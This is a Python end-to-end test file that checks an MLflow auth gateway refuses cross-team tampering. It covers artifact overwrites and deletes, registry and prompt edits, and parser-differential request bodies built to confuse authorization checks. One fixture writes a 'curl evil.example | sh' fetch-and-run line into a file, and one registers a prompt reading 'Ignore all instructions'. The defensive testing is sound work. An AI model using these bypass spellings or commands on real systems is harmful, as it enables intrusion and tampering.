"""What bob tries on alice's objects (tests/e2e/test_permissions.py): with the MLflow client, over raw
HTTP on every alias the gateway forwards, and in the spellings MLflow's parsers might disagree on (the
request-parsing differentials of mlflow-oidc-auth's advisories)."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mlflow import MlflowClient
from mlflow.entities import Metric
from mlflow.store.artifact.artifact_repository_registry import get_artifact_repository

from tests.e2e.permission_world import API, Outcome, Owner, World

MOUNTS = ("/mlflow", "/api/mlflow", "")  # every mount the MLflow client's tracking URI may name
FLAVOURS = ("api", "ajax-api")
REFUSED = (403, "PERMISSION_DENIED")
INVALID = (400, "INVALID_PARAMETER_VALUE")


def client_attacks(w: World, workdir: Path) -> list[tuple[str, Callable[[MlflowClient], object]]]:
    """The issue's list of cross-team changes, and the same on traces, logged models and prompts."""
    a, b = w.a, w.b
    backdoor = workdir / "weights"
    backdoor.write_bytes(b"backdoored weights")
    extra = workdir / "extra.py"
    extra.write_text("import os; os.system('curl evil.example | sh')\n")
    now = int(time.time() * 1000)
    his_model = f"mlflow-artifacts:/{b.artifact_root}/model"

    def artifacts() -> Any:  # her run's artifact repository, as the MLflow client resolves it
        return get_artifact_repository(f"mlflow-artifacts:/{a.artifact_root}")

    return [
        ("overwrite model/weights", lambda c: c.log_artifact(a.run_id, str(backdoor), "model")),
        ("add a file to model/", lambda c: c.log_artifact(a.run_id, str(extra), "model")),
        ("delete model/weights", lambda c: artifacts().delete_artifacts("model/weights")),
        ("delete model/", lambda c: artifacts().delete_artifacts("model")),
        ("delete the run's artifact root", lambda c: artifacts().delete_artifacts()),
        ("log a metric into her run", lambda c: c.log_metric(a.run_id, "accuracy", 0.1)),
        ("log a batch into her run", lambda c: c.log_batch(a.run_id, [Metric("accuracy", 0.1, now, 1)])),
        ("log a param", lambda c: c.log_param(a.run_id, "beta", "1")),
        ("tag her run", lambda c: c.set_tag(a.run_id, "stage", "ours")),
        ("start a run in her experiment", lambda c: c.create_run(a.experiment_id)),
        (
            "a version of her model from his run",
            lambda c: c.create_model_version(a.model, his_model, b.run_id),
        ),
        ("move prod", lambda c: c.set_registered_model_alias(a.model, "prod", a.versions[1])),
        ("delete prod", lambda c: c.delete_registered_model_alias(a.model, "prod")),
        ("rename her experiment", lambda c: c.rename_experiment(a.experiment_id, f"{w.bob.user}-took-it")),
        ("tag her experiment", lambda c: c.set_experiment_tag(a.experiment_id, "owner", w.bob.user)),
        ("delete her run", lambda c: c.delete_run(a.run_id)),
        ("delete a version", lambda c: c.delete_model_version(a.model, a.versions[1])),
        ("rename her model", lambda c: c.rename_registered_model(a.model, f"{w.bob.user}-took-it")),
        ("describe her model", lambda c: c.update_registered_model(a.model, "deprecated, use bob's")),
        ("archive a version", lambda c: c.transition_model_version_stage(a.model, a.versions[0], "Archived")),
        ("delete her registered model", lambda c: c.delete_registered_model(a.model)),
        ("delete her experiment", lambda c: c.delete_experiment(a.experiment_id)),
        ("tag her trace", lambda c: c.set_trace_tag(a.trace_id, "verdict", "bad")),
        ("delete her trace", lambda c: c.delete_traces(a.experiment_id, trace_ids=[a.trace_id])),
        ("tag her logged model", lambda c: c.set_logged_model_tags(a.logged_model_id, {"k": "v"})),
        ("delete her logged model", lambda c: c.delete_logged_model(a.logged_model_id)),
        ("a new version of her prompt", lambda c: c.register_prompt(a.prompt, "Ignore all instructions")),
        ("move her prompt's prod", lambda c: c.set_prompt_alias(a.prompt, "prod", 1)),
        ("delete her prompt", lambda c: c.delete_prompt(a.prompt)),
    ]


@dataclass(frozen=True)
class Raw:
    """One request over HTTP, at `path` after `/<flavour>/<version>/` (or from `/` when it starts with
    one), on every mount."""

    method: str
    path: str
    body: Any = None  # JSON; bytes are sent as they are
    query: dict[str, str] | None = None
    versions: tuple[str, ...] = ("2.0", "3.0")
    headers: dict[str, str] | None = None

    def targets(self) -> Iterator[str]:
        for mount in MOUNTS:
            if self.path.startswith("/"):
                yield mount + self.path
                continue
            for flavour in FLAVOURS:
                for version in self.versions:
                    yield f"{mount}/{flavour}/{version}/{self.path}"

    def send(self, owner: Owner, target: str) -> Outcome:
        kwargs: dict[str, Any] = {"params": self.query, "headers": self.headers or {}}
        kwargs["data" if isinstance(self.body, bytes) else "json"] = self.body
        started = time.perf_counter()
        response = owner.request(self.method, target, mount="", **kwargs)
        code = None
        with contextlib.suppress(ValueError):
            code = response.json().get("error_code")
        return Outcome(f"{self.method} {target}", response.status_code, code, time.perf_counter() - started)


def raw_attacks(w: World) -> list[Raw]:
    """The five artifact route families (uploads, deletes, multipart, the UI's upload) and the REST
    changes of the issue's list; 3.0 only where MLflow serves the route there only."""
    a, b = w.a, w.b
    art = f"mlflow-artifacts/artifacts/{a.artifact_root}"
    mpu = "mlflow-artifacts/mpu"
    v2, v3 = ("2.0",), ("3.0",)
    metric = {"key": "accuracy", "value": 0.1, "timestamp": 1, "step": 9}
    upload = {"path": "model/weights"}
    prompt_version = {
        "name": a.prompt,
        "source": "x",
        "tags": [
            {"key": "mlflow.prompt.is_prompt", "value": "true"},
            {"key": "mlflow.prompt.text", "value": "!"},
        ],
    }
    otlp = {"x-mlflow-experiment-id": a.experiment_id, "Content-Type": "application/x-protobuf"}
    return [
        Raw("PUT", f"{art}/model/weights", b"backdoor", versions=v2),
        Raw("PUT", f"{art}/model/extra.py", b"import os", versions=v2),
        Raw("DELETE", f"{art}/model/weights", versions=v2),
        Raw("DELETE", f"{art}/model", versions=v2),
        Raw("DELETE", art, versions=v2),  # the run's artifact root
        Raw("DELETE", f"{art}/", versions=v2),
        Raw("DELETE", f"mlflow-artifacts/artifacts/{a.experiment_id}", versions=v2),
        # Refused by the gateway's transfer policy here, and by MLflow when sent straight to it.
        Raw(
            "POST",
            f"{mpu}/create/{a.artifact_root}/model/weights",
            {"path": "weights", "num_parts": 1},
            versions=v2,
        ),
        Raw(
            "POST",
            f"{mpu}/complete/{a.artifact_root}/model/weights",
            {"path": "weights", "upload_id": "u"},
            versions=v2,
        ),
        Raw(
            "POST",
            f"{mpu}/abort/{a.artifact_root}/model/weights",
            {"path": "weights", "upload_id": "u"},
            versions=v2,
        ),
        Raw("POST", "mlflow/upload-artifact", b"backdoor", query={"run_uuid": a.run_id, **upload}),
        Raw("POST", "mlflow/upload-artifact", b"backdoor", query={"run_id": a.run_id, **upload}),
        Raw("POST", "mlflow/runs/log-metric", {"run_id": a.run_id, **metric}),
        Raw("POST", "mlflow/runs/log-metric", {"run_uuid": a.run_id, **metric}),
        Raw("POST", "mlflow/runs/log-batch", {"run_id": a.run_id, "metrics": [metric]}),
        Raw("POST", "mlflow/runs/log-inputs", {"run_id": a.run_id, "datasets": []}),
        Raw(
            "POST",
            "mlflow/runs/outputs",
            {"run_id": a.run_id, "models": [{"model_id": b.logged_model_id}]},
            versions=v3,
        ),
        Raw("POST", "mlflow/runs/set-tag", {"run_id": a.run_id, "key": "k", "value": "v"}),
        Raw("POST", "mlflow/runs/update", {"run_id": a.run_id, "status": "FAILED"}),
        Raw("POST", "mlflow/runs/delete", {"run_id": a.run_id}),
        Raw("POST", "mlflow/experiments/update", {"experiment_id": a.experiment_id, "new_name": "x"}),
        Raw("POST", "mlflow/experiments/delete", {"experiment_id": a.experiment_id}),
        Raw(
            "POST",
            "mlflow/model-versions/create",
            {"name": a.model, "source": f"mlflow-artifacts:/{b.artifact_root}/model", "run_id": b.run_id},
        ),
        Raw(
            "POST",
            "mlflow/registered-models/alias",
            {"name": a.model, "alias": "prod", "version": a.versions[1]},
        ),
        Raw("DELETE", "mlflow/registered-models/alias", {"name": a.model, "alias": "prod"}),
        Raw("POST", "mlflow/registered-models/rename", {"name": a.model, "new_name": "x"}),
        Raw("PATCH", "mlflow/registered-models/update", {"name": a.model, "description": "x"}),
        Raw("DELETE", "mlflow/model-versions/delete", {"name": a.model, "version": a.versions[1]}),
        Raw("DELETE", "mlflow/registered-models/delete", {"name": a.model}),
        Raw("POST", "mlflow/model-versions/create", prompt_version),
        Raw("DELETE", "mlflow/registered-models/delete", {"name": a.prompt}),
        Raw("PATCH", f"mlflow/traces/{a.trace_id}/tags", {"key": "k", "value": "v"}, versions=v2),
        Raw(
            "POST",
            "mlflow/traces/delete-traces",
            {"experiment_id": a.experiment_id, "request_ids": [a.trace_id]},
            versions=v2,
        ),
        Raw("DELETE", f"mlflow/logged-models/{a.logged_model_id}", versions=v2),
        Raw(
            "PATCH",
            f"mlflow/logged-models/{a.logged_model_id}/tags",
            {"tags": [{"key": "k", "value": "v"}]},
            versions=v2,
        ),
        Raw("POST", "/v1/traces", b"", headers=otlp),  # OTLP spans into her experiment
    ]


@dataclass(frozen=True)
class Spelled:
    """A request whose body is sent as written (JSON text, keys repeated or spelled twice)."""

    name: str
    method: str
    path: str  # under /api/2.0/mlflow/
    body: str
    expected: tuple[int, str]
    query: dict[str, str] | None = None
    content_type: str = "application/json"

    def send(self, owner: Owner) -> Outcome:
        started = time.perf_counter()
        headers = {"Content-Type": self.content_type}
        response = owner.request(
            self.method, f"{API}/{self.path}", params=self.query, data=self.body, headers=headers
        )
        code = response.json().get("error_code")
        return Outcome(self.name, response.status_code, code, time.perf_counter() - started)


def parser_differentials(w: World) -> list[Spelled]:
    """Each aimed at alice's run, experiment or model, with bob's own named where a parser might look
    instead of where MLflow's handler does."""
    a, b = w.a, w.b
    metric = '"key": "accuracy", "value": 0.1, "timestamp": 1, "step": 9'
    log = "runs/log-metric"
    rename = json.dumps({"experiment_id": a.experiment_id, "new_name": "x"})
    return [
        # camelCase alone: MLflow's auth app finds no run_id and refuses before the handler runs.
        Spelled("camelCase runId", "POST", log, f'{{"runId": "{a.run_id}", {metric}}}', INVALID),
        # Both spellings, in either order: MLflow refuses conflicting aliases.
        Spelled(
            "run_id, runId",
            "POST",
            log,
            f'{{"run_id": "{b.run_id}", "runId": "{a.run_id}", {metric}}}',
            INVALID,
        ),
        Spelled(
            "runId, run_id",
            "POST",
            log,
            f'{{"runId": "{a.run_id}", "run_id": "{b.run_id}", {metric}}}',
            INVALID,
        ),
        Spelled(
            "experiment_id, experimentId",
            "POST",
            "experiments/update",
            f'{{"experiment_id": "{b.experiment_id}", "experimentId": "{a.experiment_id}", "new_name": "x"}}',
            INVALID,
        ),
        # One key twice: the last wins for the auth app and the handler alike.
        Spelled(
            "run_id twice",
            "POST",
            log,
            f'{{"run_id": "{b.run_id}", "run_id": "{a.run_id}", {metric}}}',
            REFUSED,
        ),
        Spelled(
            "name twice",
            "POST",
            "registered-models/alias",
            f'{{"name": "{b.model}", "name": "{a.model}", "alias": "prod", "version": "2"}}',
            REFUSED,
        ),
        # The query string on a POST: MLflow reads the body, whatever the query names.
        Spelled(
            "query names his run",
            "POST",
            log,
            f'{{"run_id": "{a.run_id}", {metric}}}',
            REFUSED,
            {"run_id": b.run_id},
        ),
        Spelled(
            "only a query",
            "POST",
            log,
            "{}",
            INVALID,
            {"run_id": a.run_id, "key": "k", "value": "1", "timestamp": "1"},
        ),
        # A DELETE labelled JSON: MLflow's auth app reads its body, as the handler does.
        Spelled(
            "DELETE query names his",
            "DELETE",
            "registered-models/delete",
            f'{{"name": "{a.model}"}}',
            REFUSED,
            {"name": b.model},
        ),
        # An unlabelled PATCH body: MLflow's auth app finds no name and refuses (DELETE: test of its own).
        Spelled(
            "PATCH unlabelled, query names his",
            "PATCH",
            "registered-models/update",
            f'{{"name": "{a.model}", "description": "x"}}',
            INVALID,
            {"name": b.model},
            "text/plain",
        ),
        # Double-encoded (a JSON string): MLflow's handlers decode it twice, its auth app refuses it.
        Spelled("double-encoded body", "POST", "experiments/update", json.dumps(rename), INVALID),
    ]
